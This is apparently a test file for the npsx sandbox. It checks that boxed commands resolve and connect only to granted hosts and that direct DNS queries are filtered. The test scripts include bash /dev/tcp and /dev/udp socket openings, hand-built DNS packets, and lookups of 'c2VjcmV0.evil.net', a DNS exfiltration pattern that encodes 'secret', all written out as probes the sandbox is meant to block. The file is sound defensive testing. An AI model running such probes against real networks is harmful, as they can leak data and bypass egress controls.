// Commands in boxes of their own: what the C library and a shell make of names. Nothing of npsx runs in there.
import assert from 'node:assert';
import { test } from 'node:test';
import { serve } from './dns.mjs';
import { boxed, skip, users } from './boxed.mjs';

const grants = ['api.example.com:8080', '*.wild.example'];
const more = { spawn: ['getent', 'bash', 'head', 'od'] };

for (const somebody of users) test(`a command asks for granted names, and connects to them${somebody ? ', as an ordinary user' : ''}`, { skip }, async (t) => {
  const { out, stderr, names } = await boxed(t, grants, `
    out.push(run('getent', 'hosts', 'api.example.com'));
    out.push(run('getent', 'ahostsv4', 'long.wild.example')[1].split('STREAM').length);
    out.push(run('getent', 'hosts', 'evil.net'));
    out.push(run('getent', 'hosts', 'c2VjcmV0.api.example.com'));
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/www.wild.example/8080 && echo connected'));
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/10.53.9.2/8080 && echo connected'));
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/inside.wild.example/8080 && echo connected'));
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/api.example.com/8081 && echo connected'));`, { more, somebody });
  assert.equal(out[0][0], 0);
  assert.match(out[0][1], /^10\.53\.9\.1 +api\.example\.com$/);
  assert.deepEqual(out.slice(1), [61, [2, ''], [2, ''], [0, 'connected'], [1, ''], [1, ''], [1, '']]);
  assert.deepEqual(names.toSorted(), ['api.example.com', 'inside.wild.example', 'long.wild.example', 'www.wild.example']);
  assert.match(stderr, /getent of app +net\.connect +getaddrinfo evil\.net.*npsx grant app net\.connect:evil\.net/);
  assert.match(stderr, /bash of app +net\.connect +connect 10\.53\.9\.2:8080.*npsx grant app net\.connect:10\.53\.9\.2:8080/);
  assert.match(stderr, /bash of app +net\.connect +connect 127\.0\.0\.1:8080/);
  assert.doesNotMatch(stderr, /nscd/);
});

// A question as bytes, from a socket that was connected to a name server; the first 4 bytes of the answer.
const ask = (way, name, kind = 1) => {
  const escaped = (s) => [...Buffer.from(s, 'latin1')].map((c) => `\\\\x${c.toString(16).padStart(2, '0')}`).join('');
  const labels = name.split('.').map((l) => escaped(String.fromCharCode(l.length) + l)).join('');
  return `run('bash', '-c', "exec 3<>${way} || exit 9; printf '\\\\x12\\\\x34\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00${labels}\\\\x00\\\\x00\\\\x0${kind}\\\\x00\\\\x01' >&3; head -c 4 <&3 | od -An -tx1")`;
};

test('a command that speaks to name servers by itself', { skip }, async (t) => {
  const other = await serve('10.53.9.2', () => ({ answers: [] }));
  t.after(other.close);
  const { out, names } = await boxed(t, grants, `
    out.push(${ask('/dev/udp/127.53.0.1/53', 'api.example.com')});
    out.push(${ask('/dev/udp/127.53.0.1/53', 'c2VjcmV0.evil.net')});
    out.push(${ask('/dev/udp/10.53.9.2/53', 'c2VjcmV0.evil.net')});
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/10.53.9.2/53 && echo connected'));
    out.push(run('bash', '-c', 'exec 3<>/dev/udp/127.53.0.1/54 && echo connected'));`, { more });
  assert.deepEqual(out, [[0, '12 34 81 80'], [0, '12 34 81 83'], [9, ''], [1, ''], [1, '']]);
  assert.deepEqual(names, ['api.example.com']);
  assert.deepEqual(other.log.map((q) => q.name), []);
});

test('search domains and /etc/hosts, for a command', { skip }, async (t) => {
  const { out, names } = await boxed(t, ['db:8080', 'byhosts.example:8080'], `
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/db/8080 && echo connected'));
    out.push(run('bash', '-c', 'exec 3<>/dev/tcp/byhosts.example/8080 && echo connected'));
    out.push(run('getent', 'hosts', 'other')[0]);`, { more, text: 'nameserver 127.53.0.1\nsearch corp.example\n', inHosts: '10.53.9.1 byhosts.example\n' });
  assert.deepEqual(out, [[0, 'connected'], [0, 'connected'], 2]);
  assert.deepEqual(names, ['db.corp.example']);
});

test('a dead first server, for a command', { skip }, async (t) => {
  const { out } = await boxed(t, grants, `
    out.push(run('getent', 'hosts', 'api.example.com')[0]);`, { more, text: 'nameserver 127.53.0.9\nnameserver 127.53.0.1\noptions timeout:1\n' });
  assert.deepEqual(out, [0]);
});
